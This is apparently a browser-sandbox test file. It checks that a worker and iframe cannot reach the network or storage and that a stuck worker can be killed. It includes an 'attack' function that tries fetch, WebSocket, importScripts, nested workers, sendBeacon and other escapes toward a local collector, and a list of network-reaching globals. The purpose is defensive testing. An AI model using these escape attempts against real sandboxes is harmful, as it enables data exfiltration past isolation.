// The box holds: no way out of it, no name to reach the world with, and it can always be ended.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { launch, until } from "./support/browser.mjs";
import { harnessFiles, openBox } from "./support/harness.mjs";
import { serveSite, siteFile, siteNames } from "./support/site.mjs";
import { stuckEngine } from "./support/stuck.mjs";

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser?.close());

async function withBox(files, act) {
  const site = await serveSite(await harnessFiles(files));
  try {
    const page = await openBox(browser, site);
    await act(page, site);
    await page.context().close();
  } finally {
    await site.close();
  }
}

test("the engine starts in the box and answers", () =>
  withBox({}, async (page) => {
    await page.evaluate(() => next("ready"));
    await page.evaluate(() => box.port.postMessage({ type: "ping", n: 7 }));
    assert.deepEqual(await page.evaluate(() => next("pong")), { type: "pong", n: 7 });
    page.assertClean();
  }));

test("a text that is no scenario is refused in words", () =>
  withBox({}, async (page) => {
    const answer = await page.evaluate(() => runToEnd(3, "{"));
    assert.equal(answer.type, "refused");
    assert.equal(answer.id, 3);
    assert.match(answer.message, /not a scenario/);
    page.assertClean();
  }));

test("the worker has lost every name that reaches the world", () =>
  withBox({}, async (page) => {
    await page.evaluate(() => next("ready"));
    const worker = await until(() => page.workers()[0], "the worker is there");
    const left = await worker.evaluate(() => {
      const names = ["fetch", "XMLHttpRequest", "WebSocket", "WebSocketStream", "EventSource", "WebTransport",
        "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "indexedDB", "caches", "navigator", "location",
        "Atomics", "SharedArrayBuffer", "WebAssembly", "MessageChannel", "MessagePort", "postMessage", "Request",
        "Response", "Blob", "File", "FileReader", "FileReaderSync", "URL", "setTimeout", "setInterval", "performance",
        "crypto", "cookieStore", "FontFace", "fonts", "OffscreenCanvas", "ImageData", "createImageBitmap",
        "addEventListener", "close", "name", "origin", "structuredClone", "queueMicrotask", "scheduler", "Notification",
        "requestAnimationFrame", "onmessage", "webkitRequestFileSystem"];
      const seen = [];
      for (let holder = globalThis; holder && holder !== Object.prototype; holder = Object.getPrototypeOf(holder)) {
        seen.push(...Object.getOwnPropertyNames(holder).filter((name) => globalThis[name] !== undefined));
      }
      return { named: names.filter((name) => globalThis[name] !== undefined), seen };
    });
    assert.deepEqual(left.named, []);
    assert.ok(left.seen.length < 75, `only the language is left: ${left.seen.join(" ")}`);
    page.assertClean();
  }));

// The second wall is gone here: the worker runs an attacker's script with every name that a worker has.
function attack(target, socket) {
  const tries = {
    fetch: () => fetch(target + "fetch"),
    fetchNoCors: () => fetch(target + "no-cors", { mode: "no-cors", keepalive: true }),
    fetchSite: () => fetch("index.html"),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject(new Error("refused"));
      request.open("GET", target + "xhr");
      request.send();
    }),
    syncXhr: async () => {
      const request = new XMLHttpRequest();
      request.open("GET", target + "sync", false);
      request.send();
    },
    webSocket: () => new Promise((resolve, reject) => {
      const channel = new WebSocket(socket);
      channel.onopen = resolve;
      channel.onerror = () => reject(new Error("refused"));
    }),
    eventSource: () => new Promise((resolve, reject) => {
      const source = new EventSource(target + "events");
      source.onopen = resolve;
      source.onerror = () => reject(new Error("refused"));
    }),
    importScripts: async () => importScripts(target + "script.js"),
    dynamicImport: () => import(target + "module.js"),
    worker: () => new Promise((resolve, reject) => {
      const worker = new Worker(target + "worker.js");
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error("refused"));
    }),
    nestedWorker: () => new Promise((resolve, reject) => {
      const text = `fetch(${JSON.stringify(target + "nested")}).then(() => postMessage(1), () => postMessage(0))`;
      const worker = new Worker(URL.createObjectURL(new Blob([text])));
      worker.onmessage = ({ data }) => (data ? resolve() : reject(new Error("refused")));
      worker.onerror = () => reject(new Error("refused"));
    }),
    font: () => new FontFace("x", `url(${target}font)`).load(),
    evaluate: async () => (0, eval)("1"),
    database: () => new Promise((resolve, reject) => {
      const request = indexedDB.open("x");
      request.onsuccess = resolve;
      request.onerror = () => reject(new Error("refused"));
    }),
    cacheStorage: () => caches.open("x"),
    files: () => navigator.storage.getDirectory(),
    beacon: async () => navigator.sendBeacon(target + "beacon"),
  };
  addEventListener("message", async ({ ports: [port] }) => {
    const got = [];
    for (const [name, act] of Object.entries(tries)) {
      const patience = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 1_500));
      await Promise.race([Promise.resolve().then(act), patience]).then(() => got.push(name), () => {});
    }
    port.postMessage({ type: "ready", got });
  });
}

test("a worker with all its names reaches neither network nor storage", async () => {
  const hits = [];
  const collector = createServer((request, response) => {
    hits.push(request.url);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
  });
  collector.on("upgrade", (request, connection) => {
    hits.push(request.url);
    connection.destroy();
  });
  await new Promise((resolve) => collector.listen(0, "127.0.0.1", resolve));
  const at = `127.0.0.1:${collector.address().port}/`;
  try {
    const { sandbox } = await siteNames();
    const script = `(${attack})("http://${at}", "ws://${at}socket")`;
    const html = await siteFile(sandbox, "utf8");
    const swapped = html.replace(/(<script type="text\/plain" id="worker">)[^]*?(<\/script>)/, (_, open, close) => {
      return open + script + close;
    });
    assert.ok(swapped.includes("sendBeacon"), "the worker's script was replaced");
    await withBox({ sandbox: swapped }, async (page) => {
      const { got } = await page.evaluate(() => next("ready"));
      assert.deepEqual(got, [], "every try was refused");
      const left = page.complaints.filter((line) => line.startsWith("left the site") && !line.includes(at));
      assert.deepEqual(left, []);
    });
    // The proof is the server that nobody called.
    assert.deepEqual(hits, []);
  } finally {
    collector.closeAllConnections();
    await new Promise((resolve) => collector.close(resolve));
  }
});

test("the frame has no origin and cannot see the page", () =>
  withBox({}, async (page) => {
    await page.evaluate(() => next("ready"));
    const frame = page.frames().find((frame) => frame !== page.mainFrame());
    const seen = await frame.evaluate(() => {
      const tries = {
        page: () => parent.document.title,
        top: () => top.location.href,
        storage: () => localStorage.length,
        cookie: () => document.cookie.length,
      };
      const got = Object.entries(tries).filter(([, act]) => {
        try {
          act();
          return true;
        } catch {
          return false;
        }
      });
      return { origin: self.origin, got: got.map(([name]) => name) };
    });
    assert.deepEqual(seen, { origin: "null", got: [] });
    page.assertClean();
  }));

test("a worker that never returns is ended by a word to the relay", async () =>
  withBox({ engine: await stuckEngine() }, async (page) => {
    const told = await page.evaluate(async () => {
      await next("ready");
      box.port.postMessage({ type: "open", id: 1, scenario: "{}" });
      await next("opened");
      box.port.postMessage({ type: "credit", n: 1 });
      await new Promise((resolve) => setTimeout(resolve, 200));
      box.port.postMessage({ type: "ping", n: 1 });
      await new Promise((resolve) => setTimeout(resolve, 300));
      const silent = box.messages.length === 0;
      const start = performance.now();
      box.frame.contentWindow.postMessage({ type: "kill" }, "*");
      while (!box.relay.some((message) => message.type === "killed")) {
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      return { silent, milliseconds: performance.now() - start };
    });
    assert.ok(told.silent, "it was stuck");
    assert.ok(told.milliseconds < 250, `it ended after ${told.milliseconds} ms`);
    page.assertClean();
  }));
